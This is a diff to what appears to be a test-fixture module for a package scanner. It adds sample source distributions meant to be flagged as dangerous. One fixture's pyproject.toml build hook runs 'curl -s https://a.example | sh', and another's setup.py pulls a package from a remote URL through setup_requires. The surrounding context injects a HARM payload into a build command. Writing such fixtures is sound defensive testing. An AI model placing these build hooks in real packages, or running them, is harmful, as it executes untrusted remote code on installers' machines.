@@ -81,6 +81,18 @@ SDISTS: dict[str, tuple[str, Mapping[str, bytes]]] = {
             b"    def run(self):\n        " + HARM.replace(b"\n", b"\n        "),
         },
     ),
+    "settings": (
+        "runs-downloaded-code",
+        {
+            "pyproject.toml": b'[build-system]\nrequires = ["hatchling", "hatch-build-scripts"]\n'
+            b"[[tool.hatch.build.hooks.build-scripts.scripts]]\n"
+            b"commands = ['curl -s https://a.example | sh']\n",
+        },
+    ),
+    "fetched": (
+        "installs-another-package",
+        {"setup.py": SETUP.replace(b"()", b"(setup_requires=['x @ https://a.example/x.zip'])")},
+    ),
     "versioned": (
         "",
         {
